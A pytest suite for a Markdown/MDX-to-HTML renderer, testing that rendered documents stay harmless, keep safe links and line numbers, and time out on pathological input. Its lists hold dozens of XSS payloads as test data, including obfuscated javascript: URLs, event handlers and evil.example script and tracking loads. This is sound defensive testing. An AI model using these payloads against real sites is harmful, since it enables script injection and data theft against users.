"""Documents as HTML: complete for readers, harmless whatever the document contains."""

from __future__ import annotations

import re
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from headnote import Index
from headnote.rendering import Deadline, DrawingTimeout, page
from headnote.rendering.link_targets import PICTURES
from headnote.rendering.page import SOURCE_NOTICE, render, render_text

pytest_plugins = ("web_fixtures",)

SAFE_ATTRIBUTES = {
    *("align", "alt", "class", "colspan", "data-anchor", "data-document", "data-end-line", "data-fragment", "open"),
    *(
        "data-start-line",
        "dir",
        "height",
        "href",
        "lang",
        "rel",
        "reversed",
        "rowspan",
        "src",
        "start",
        "target",
        "title",
    ),
    *("data-callout", "data-title", "value", "width"),
}
DANGEROUS = set(
    "script style iframe object embed svg math form input button textarea select link meta base template noscript frame"
    " frameset applet audio video source track portal marquee animate foreignobject title head body html".split()
)


class Elements(HTMLParser):
    """Every tag, as a browser would see it, more or less."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self.comments: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)

    def all(self, tag: str) -> Iterator[dict[str, str]]:
        return (attributes for name, attributes in self.tags if name == tag)


def check_harmless(html: str) -> Elements:
    """What holds for any document."""
    elements = Elements(html)
    assert not elements.comments
    for tag, attributes in elements.tags:
        assert tag not in DANGEROUS, html
        assert attributes.keys() <= SAFE_ATTRIBUTES, html
        if "href" in attributes:
            check_link(attributes)
        if tag == "img" and "src" in attributes:
            address = urlsplit(attributes["src"])
            assert not address.scheme, html
            assert not address.netloc, html
            assert address.path.startswith("/files/"), html
    return elements


def check_link(attributes: dict[str, str]) -> None:
    href = attributes["href"]
    if href.startswith(("#/document?", "#/search?tag=")):
        return
    if href.startswith("/files/"):
        assert urlsplit(href).path.lower().endswith(PICTURES)
        return
    assert re.match(r"(?:https?|mailto):", href), href
    assert attributes["target"] == "_blank"
    assert {"noopener", "noreferrer"} <= set(attributes["rel"].split())


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script >",
    "<img src=x onerror=alert(1)>",
    '<img src="x" OnErRoR="alert(1)">',
    "<img src=x onerror=&#97;lert(1)>",
    '<img/src="x"/onerror=alert(1)>',
    '<img src="javascript:alert(1)">',
    '<img src="https://evil.example/track.png">',
    "![x](https://evil.example/track.png)",
    "![x](//evil.example/track.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
    '<img srcset="https://evil.example/a.png 2x" src="a.png">',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A&#x61&#x76&#x61script:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](%6aavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](//evil.example)",
    "[x](\\\\evil.example\\share)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="jav&#x00;ascript:alert(1)">x</a>',
    '<a href="\u200bjavascript:alert(1)">x</a>',
    "<a href=javascript&#58;alert(1)>x</a>",
    '<a href="#" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
    '<a href="x" ping="https://evil.example" download target="_top">x</a>',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<style>body{background:url(https://evil.example)}</style>",
    '<p style="background:url(https://evil.example)">x</p>',
    "<iframe src=https://evil.example></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=x.swf></object><embed src=x.swf>",
    '<form action="https://evil.example"><input name=a><button>x</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/a.css">',
    "<video src=x onerror=alert(1)></video><audio src=x></audio>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<!DOCTYPE html><html><body onload=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>",
    '<p id="app" name="app" class="danger">x</p>',
    '<div data-start-line="<script>">x</div>',
    '`<script>alert(1)</script>`\n\n```"><script>alert(1)</script>\nx\n```',
    '```x" onmouseover="alert(1)\ny\n```',
    '[[x|<img src=x onerror=alert(1)>]] ![[<script>]] [["><script>alert(1)</script>]]',
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "# a {#\"><script>alert(1)</script>}\n\n## b {#x'onclick=alert(1)}",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    '[x](a.md "onmouseover=alert(1)\\" onclick=\\"")',
    '![" onerror="alert(1)](a.png)',
    "<ruby><rp><script>alert(1)</script></rp></ruby>",
    "\0<scr\0ipt>alert(1)</scr\0ipt>",
    "<a href='https://ok.example' title='\" target=_self onclick=alert(1)'>x</a>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_is_harmless(text: str) -> None:
    for mdx in (False, True):
        elements = check_harmless(render_text(text, "a.md", mdx=mdx))
        assert not list(elements.all("script"))


MDX = [
    'import x from "javascript:alert(1)"\n\nexport const a = <script>alert(1)</script>\n',
    "<Tabs onClick={() => alert(1)}>\n\n<script>alert(1)</script>\n\n</Tabs>\n",
    "{`<img src=x onerror=alert(1)>`}\n",
]
HOSTILE_TAGS = [
    '<A b="</code></pre><script>alert(1)</script>" />\n',
    '<iframe src={"javascript:alert(1)"} />\n',
    '<Card title="<script>alert(1)</script>" href="javascript:alert(1)" onClick={alert}>x</Card>\n',
    '<Image src="https://evil.example/track.png" alt="<img src=x onerror=alert(1)>" />\n',
    '<Image src="javascript:alert(1)" /> <Image src="a.png> <script>" />\n',
    '<LinkCard title="a](javascript:alert(1)) [b" href="javascript:alert(1)" description="<script>x</script>" />\n',
    '<TabItem label="<script>alert(1)</script>" onClick={alert(1)}>\n\nx\n\n</TabItem>\n',
    "Text <a href={alert(1)} onClick={alert(1)}>x</a> <b style={{ a: 1 }} onClick={() => alert(1)}>y</b>\n",
    'Text <Badge text="<img src=x onerror=alert(1)>" /> <img src={x} onerror={"alert(1)"} /> {"<script>x</script>"}\n',
    '<div onClick={alert(1)} id="main" className="shell">\n\nx\n\n</div>\n',
]


@pytest.mark.parametrize("text", MDX)
def test_hostile_mdx_is_code(text: str) -> None:
    elements = check_harmless(render_text(text, "a.mdx", mdx=True))
    assert "alert(1)" in elements.text


@pytest.mark.parametrize("text", HOSTILE_TAGS)
def test_hostile_components_are_harmless(text: str) -> None:
    for mdx in (False, True):
        check_harmless(render_text(text, "a.md", mdx=mdx))


pieces = st.sampled_from(
    [
        *HOSTILE,
        "<",
        ">",
        '"',
        "'",
        "`",
        "[",
        "](",
        ")",
        "![",
        "[[",
        "]]",
        "|",
        "\n",
        "\n\n",
        "    ",
        "> ",
        "- ",
        "&#",
        ";",
        "=",
    ]
)


@given(st.lists(pieces | st.text(max_size=6), max_size=12).map("".join), st.booleans())
def test_whatever_is_put_together_is_harmless(text: str, mdx: bool) -> None:
    check_harmless(render_text(text, "docs/a.md", mdx=mdx))


def test_links_lead_to_documents_and_pictures_below_the_root(index: Index) -> None:
    elements = check_harmless(render(index.document("tides.md")))
    harbour, moon = elements.all("a")
    assert (harbour["data-document"], harbour["data-fragment"]) == ("places/harbour.md", "walls")
    assert parse_qs(harbour["href"].partition("?")[2]) == {"path": ["places/harbour.md"], "fragment": ["walls"]}
    assert moon["data-document"] == "moon.md"
    assert "the moon" in elements.text
    [picture] = elements.all("img")
    assert (picture["src"], picture["alt"]) == ("/files/places/gauge.png", "a gauge")
    [up] = Elements(render(index.document("places/harbour.md"))).all("a")
    assert up["data-document"] == "tides.md"


def test_every_block_knows_its_lines(index: Index, served_root: Path) -> None:
    lines = (served_root / "tides.md").read_text(encoding="utf-8").splitlines()
    elements = Elements(render(index.document("tides.md")))
    spans = [
        (tag, int(at["data-start-line"]), int(at["data-end-line"]))
        for tag, at in elements.tags
        if "data-start-line" in at
    ]
    assert [tag for tag, _, _ in spans] == ["h1", "p", "h2", "p", "p", "table", "tr", "tr"]
    assert [lines[start - 1][:3] for _, start, _ in spans] == ["# T", "The", "## ", "Spr", "![a", "| P", "| P", "| Q"]
    assert all(start <= end <= len(lines) for _, start, end in spans)
    assert "status" not in elements.text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a\r\n\r\n# B\r\n", [("p", "1"), ("h1", "3")]),
        ("a\r\r# B\r", [("p", "1"), ("h1", "3")]),
        ("\ufeff---\na: 1\n---\n\n# B\n", [("h1", "5")]),
        ("+++\na = 1\n+++\n# B\n", [("h1", "4")]),
        ("[^1]: Note\n\nText[^1]\n", [("p", "3"), ("li", "1"), ("p", "1")]),
        ("- a\n- b\n  - c\n", [("ul", "1"), ("li", "1"), ("li", "2"), ("ul", "3"), ("li", "3")]),
        ("a %%b%% c\n\n%%\nd\n\ne\n%%\n\nf\n", [("p", "1"), ("p", "9")]),
    ],
)
def test_lines_are_those_of_the_file(text: str, expected: list[tuple[str, str]]) -> None:
    tags = Elements(render_text(text)).tags
    assert [(tag, at["data-start-line"]) for tag, at in tags if "data-start-line" in at] == expected


def test_mdx_is_content_where_it_stands() -> None:
    text = 'import A from "a"\n\n# Title\n\n<A>\n\n**b**\n\n</A>\n\nText {1 + 1}.\n'
    elements = Elements(render_text(text, "a.mdx", mdx=True))
    marked = [(tag, at["data-start-line"]) for tag, at in elements.tags if "data-start-line" in at]
    assert [line for _, line in marked] == ["1", "3", "7", "11"]
    assert 'import A from "a"' in elements.text


def test_what_people_write_is_drawn() -> None:
    text = (
        "# A *b* {#own}\n\n~~gone~~ **bold** `code`\n\n| a | b |\n|:-|-:|\n| 1 | 2 |\n\n- [ ] open\n- [x] done\n\n"
        "```python\nx = 1\n```\n\n<details><summary>More</summary>\n\ninside\n\n</details>\n\n<kbd>Ctrl</kbd>\n\n"
        "Note[^1] <https://example.org> ![far](https://example.org/a.png)\n\n[^1]: The note.\n"
    )
    html = render_text(text, "a.md")
    elements = check_harmless(html)
    assert 'data-anchor="own">A <em>b</em></h1>' in html
    for part in ("<s>gone</s>", "<strong>bold</strong>", 'class="language-python"', "<kbd>Ctrl</kbd>", "<summary>More"):
        assert part in html
    assert [at.get("align") for at in elements.all("td")] == ["left", "right"]
    classes = [at.get("class") for at in elements.all("li")]
    assert classes[:2] == ["task", "task done"]
    anchors = {at["data-anchor"] for _, at in elements.tags if "data-anchor" in at}
    assert {"own", "fn1", "fnref1"} <= anchors
    far = next(at for at in elements.all("a") if at.get("class") == "remote-picture")
    assert far["href"] == "https://example.org/a.png"
    assert not list(elements.all("img"))


def test_broken_wikilinks_are_no_links() -> None:
    elements = Elements(render_text("[[nowhere]] and [[nowhere|this]]"))
    assert [at for _, at in elements.tags if at.get("class") == "broken-link"] == [{"class": "broken-link"}] * 2
    assert not list(elements.all("a"))


def test_raw_html_leads_to_the_same_places() -> None:
    html = '<a href="b.md#c">x</a> <img src="../i/p.png"> <img src="../../p.png"> <a href="/top.md">y</a>'
    elements = check_harmless(render_text(html, "d/a.md"))
    assert [at["href"] for at in elements.all("a")] == ["#/document?path=d%2Fb.md&fragment=c", "#/document?path=top.md"]
    assert [at.get("src") for at in elements.all("img")] == ["/files/i/p.png", None]


@pytest.mark.parametrize(
    ("address", "expected"),
    [
        ("/files/i/p.png", "/files/i/p.png"),
        ("/files/i/%C3%A4%20100%25.png", "/files/i/%C3%A4%20100%25.png"),
        ("/files/i/../p.png?q=1", "/files/p.png"),
        ("/files/../api/search?q=the&offset=100000", None),
        ("/files/%2e%2E/api/search?q=a.png", None),
        ("/files/i/.%2e/../api/a.png", None),
        ("/files/a.txt", None),
    ],
)
def test_a_picture_is_a_file_and_no_question_to_the_server(address: str, expected: str | None) -> None:
    for text in (f'<img src="{address}">', f"![]({address})"):
        elements = check_harmless(render_text(text, "d/a.md"))
        assert [at.get("src") for at in elements.all("img") if at.get("src")] == ([expected] if expected else [])


@pytest.mark.parametrize(
    "text",
    [
        *("> " * 3000, "- " * 3000, "[" * 30_000, "![[a" * 5000, "*a **b " * 5000, "<div>" * 20_000, "<b><i>" * 9000),
        *("`" * 9999, "&" * 9999, "|" * 9999, "[^1]" * 999 + "\n\n[^1]: a", "<div></span>" * 20_000),
    ],
    ids=lambda text: text[:8],
)
def test_texts_that_take_forever_are_shown_somehow(text: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(page, "DRAW_SECONDS", 0.5)
    check_harmless(render_text(text, "a.md"))


def test_a_very_long_document_is_shown_as_it_is_written(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(page, "MAX_TEXT_CHARS", 10)
    (tmp_path / "long.md").write_text("# Long\n\n<script>alert(1)</script>\n", encoding="utf-8")
    with Index.open(tmp_path, embedder="none") as index:
        index.update()
        html = render(index.document("long.md"))
    assert html == (
        f"<p><em>{SOURCE_NOTICE}</em></p>\n"
        '<pre class="source" data-start-line="1" data-end-line="3"># Long\n\n'
        "&lt;script&gt;alert(1)&lt;/script&gt;</pre>"
    )


LINES_THAT_TAKE_LONG = [
    *(
        "- a\n",
        "1. a\n",
        "- [x] a\n",
        "- a\n\n",
        "> a\n",
        "> > - a\n",
        "|a|b|\n",
        "a  \n",
        "a\n\n",
        "#\n",
        "# a\n",
        "a\n=\n",
    ),
    *(
        "*a* **b**\n\n",
        "*a ",
        "[a](",
        "[x][y1]\n\n",
        "<b>\n\n",
        "<!-- a -->\n",
        "&amp;\n\n",
        "$$\n",
        "a[^1]\n\n",
        "![a](b.png)\n\n",
    ),
    *(
        "[[a]]\n\n",
        "```\n```\n",
        "---\n",
        "[^1]: a\n\n",
        "[y]: /u\n",
        "<A b={1}/>\n\n",
        "{a}\n\n",
        "<A>\n",
    ),
]


class Clock(Deadline):
    """Expires after a number of checks, so that the test does not depend on the machine."""

    looks = 0

    def __init__(self, seconds: float) -> None:
        super().__init__(seconds)
        self._left = self.looks

    def check(self) -> None:
        self._left -= 1
        if self._left < 0:
            raise DrawingTimeout


@pytest.mark.parametrize("line", LINES_THAT_TAKE_LONG)
def test_drawing_ends_when_the_time_is_up(line: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Somebody looks at the clock all the while: whatever the construct, and however far it is."""
    text = "|a|b|\n|-|-|\n" + line * 300 if line.startswith("|") else line * 300
    for looks in (0, 100, 250):
        monkeypatch.setattr(Clock, "looks", looks)
        monkeypatch.setattr(page, "Deadline", Clock)
        html = render_text(text, "a.mdx", mdx=line.startswith(("<A", "{")))
        assert html.startswith(f"<p><em>{SOURCE_NOTICE}</em></p>\n<pre "), html[:200]
        assert Elements(html).text.removeprefix(SOURCE_NOTICE).strip() == text.strip()


def test_html_that_is_too_long_to_clean_is_not_cleaned(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(page, "MAX_HTML_CHARS", 300)
    assert "<li " in render_text("- a\n" * 3)
    assert SOURCE_NOTICE in render_text("- a\n" * 30)


def test_what_is_shown_as_it_is_written_knows_its_lines(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(page, "MAX_TEXT_CHARS", 1)
    monkeypatch.setattr(page, "MAX_PIECE_CHARS", 8)
    pieces = [tag for name, tag in Elements(render_text("# a\n\nb\n\nlong text\n\nc\n")).tags if name == "pre"]
    assert [(tag["data-start-line"], tag["data-end-line"]) for tag in pieces] == [("1", "5"), ("7", "7")]
